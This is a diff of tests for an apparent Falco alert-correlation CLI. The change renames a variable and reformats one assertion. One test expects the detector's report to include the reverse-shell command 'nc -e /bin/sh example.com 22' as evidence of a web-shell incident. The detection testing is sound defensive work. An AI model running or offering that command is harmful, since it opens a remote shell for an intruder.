@@ -43,11 +43,11 @@ def test_version_is_told_by_option_and_command() -> None:
 
 @pytest.mark.parametrize("command", main.list_commands(click.Context(main)))
 def test_every_command_explains_itself_and_its_exit_codes(command: str) -> None:
-    told = ran(command, "--help")
+    outcome = ran(command, "--help")
 
-    assert told.exit_code == 0
-    assert "Exit codes: 0" in told.output
-    assert len(told.output.splitlines()) > 6
+    assert outcome.exit_code == 0
+    assert "Exit codes: 0" in outcome.output
+    assert len(outcome.output.splitlines()) > 6
 
 
 def test_printing_the_version_imports_neither_grpc_nor_yaml_nor_asyncio() -> None:
@@ -61,12 +61,12 @@ def test_printing_the_version_imports_neither_grpc_nor_yaml_nor_asyncio() -> Non
 
 
 def test_replay_as_jsonl_is_what_a_sink_would_be_sent() -> None:
-    told = ran("replay", "--output", "jsonl", STOCK)
-    events = [json.loads(line) for line in told.stdout.splitlines()]
+    outcome = ran("replay", "--output", "jsonl", STOCK)
+    events = [json.loads(line) for line in outcome.stdout.splitlines()]
 
-    assert told.exit_code == 0
+    assert outcome.exit_code == 0
     assert [event["priority"] for event in events] == ["Warning"] * 4
-    assert re.fullmatch(r"119 alerts, \d+ detections, 4 incidents(; declined: .*)?\n", told.stderr)
+    assert re.fullmatch(r"119 alerts, \d+ detections, 4 incidents(; declined: .*)?\n", outcome.stderr)
 
 
 @pytest.mark.parametrize(
@@ -95,9 +95,9 @@ def test_scenarios_whose_groups_stock_rules_see_give_the_expected_case(
     ]
     assert lines
     (tmp_path / "alerts.jsonl").write_text("\n".join(lines))
-    told = ran("replay", "-o", "jsonl", tmp_path / "alerts.jsonl")
+    outcome = ran("replay", "-o", "jsonl", tmp_path / "alerts.jsonl")
 
-    assert ([case] if case else []) == [json.loads(line)["rule"] for line in told.stdout.splitlines()]
+    assert ([case] if case else []) == [json.loads(line)["rule"] for line in outcome.stdout.splitlines()]
 
 
 def test_replay_reads_several_files_gz_and_stdin_alike(tmp_path: Path) -> None:
@@ -111,17 +111,17 @@ def test_replay_reads_several_files_gz_and_stdin_alike(tmp_path: Path) -> None:
 
 
 def test_replay_as_table_fits_80_columns_and_has_a_row_an_incident() -> None:
-    told = ran("replay", STOCK, environment={"COLUMNS": "80"})
+    outcome = ran("replay", STOCK, environment={"COLUMNS": "80"})
 
-    assert told.stdout.count("medium") == 4
-    assert max(len(line) for line in told.stdout.splitlines()) <= 80
+    assert outcome.stdout.count("medium") == 4
+    assert max(len(line) for line in outcome.stdout.splitlines()) <= 80
 
 
 def test_replay_as_text_tells_each_incident_in_full() -> None:
-    told = ran("replay", "-o", "text", STOCK).stdout
+    outcome = ran("replay", "-o", "text", STOCK).stdout
 
     for words in ("Web Shell with Network Activity", "httpd > sh > nc", "nc -e /bin/sh example.com 22", "Next steps"):
-        assert words in told
+        assert words in outcome
 
 
 def test_replay_counts_what_it_could_not_use(tmp_path: Path) -> None:
@@ -179,7 +179,7 @@ def test_what_replay_cannot_uncompress_it_names_a_program_for(tmp_path: Path) ->
 
 
 @pytest.mark.parametrize(
-    ("arguments", "told"),
+    ("arguments", "outcome"),
     [
         (("replay", "/nonexistent.jsonl"), "/nonexistent.jsonl: no such file"),
         (("replay", "--rules", "BAD", STOCK), "id: is missing"),
@@ -191,14 +191,14 @@ def test_what_replay_cannot_uncompress_it_names_a_program_for(tmp_path: Path) ->
     ],
 )
 def test_a_wrong_file_or_setting_exits_2_with_file_and_path_and_no_traceback(
-    tmp_path: Path, arguments: tuple[str, ...], told: str
+    tmp_path: Path, arguments: tuple[str, ...], outcome: str
 ) -> None:
     bad = tmp_path / "bad.yaml"
     bad.write_text("groups: {}\n")
     result = ran(*(bad if a == "BAD" else a for a in arguments))
 
     assert result.exit_code == 2
-    assert told.replace("BAD", str(bad)) in result.stderr
+    assert outcome.replace("BAD", str(bad)) in result.stderr
     assert "Traceback" not in result.output
 
 
@@ -211,20 +211,20 @@ def test_a_gz_file_that_is_cut_short_exits_2(tmp_path: Path) -> None:
 def test_check_tells_what_it_checked(tmp_path: Path) -> None:
     config = tmp_path / "settings.yaml"
     config.write_text("sinks: {stdout: {enabled: true}}\n")
-    told = ran("check", "--config", config)
+    outcome = ran("check", "--config", config)
 
-    assert (0, f"{config}: ok") == (told.exit_code, told.stdout.splitlines()[0])
-    assert re.search(r"web-application-rce: ok \(groups: 5, cases: 6, tests: \d+\)", told.stdout)
+    assert (0, f"{config}: ok") == (outcome.exit_code, outcome.stdout.splitlines()[0])
+    assert re.search(r"web-application-rce: ok \(groups: 5, cases: 6, tests: \d+\)", outcome.stdout)
 
 
 def test_test_tells_a_failing_test_what_was_expected_and_exits_1(tmp_path: Path) -> None:
     rule = (SHIPPED / "correlation" / "web_application_rce.yaml").read_text()
     (tmp_path / "rule.yaml").write_text(rule.replace("severity: critical, case: Full", "severity: high, case: Full"))
-    told = ran("test", tmp_path / "rule.yaml")
+    outcome = ran("test", tmp_path / "rule.yaml")
 
-    assert told.exit_code == 1
-    assert "expected: high 'Full Web Application Compromise'" in told.stdout
-    assert "got:      critical 'Full Web Application Compromise'" in told.stdout
+    assert outcome.exit_code == 1
+    assert "expected: high 'Full Web Application Compromise'" in outcome.stdout
+    assert "got:      critical 'Full Web Application Compromise'" in outcome.stdout
 
 
 def test_schema_prints_json() -> None:
@@ -233,9 +233,9 @@ def test_schema_prints_json() -> None:
 
 
 def test_print_config_prints_the_settings_in_effect() -> None:
-    told = ran("run", "--print-config", environment={"FALCO_CORRELATOR_SINKS__FALCOSIDEKICK__URL": "http://x:2801"})
+    outcome = ran("run", "--print-config", environment={"FALCO_CORRELATOR_SINKS__FALCOSIDEKICK__URL": "http://x:2801"})
 
-    assert "url: http://x:2801" in told.stdout
+    assert "url: http://x:2801" in outcome.stdout
 
 
 @pytest.mark.slow
@@ -353,9 +353,12 @@ def test_shipped_among_the_rules_names_those_of_the_service(tmp_path: Path) -> N
     own.write_text((DATA / "crypto_mining.yaml").read_text().replace("id: crypto-mining", "id: one-of-my-own"))
     settings.write_text(f"sinks: {{stdout: {{enabled: true}}}}\nrules: [shipped, {own}]\n")
 
-    told = ran("check", "--config", settings).stdout
+    outcome = ran("check", "--config", settings).stdout
 
-    assert [line.partition(":")[0] for line in told.splitlines()[1:]] == [*(rule.id for rule in RULES), "one-of-my-own"]
+    assert [line.partition(":")[0] for line in outcome.splitlines()[1:]] == [
+        *(rule.id for rule in RULES),
+        "one-of-my-own",
+    ]
 
 
 def test_settings_are_checked_whole_each_mistake_with_its_line(tmp_path: Path) -> None:
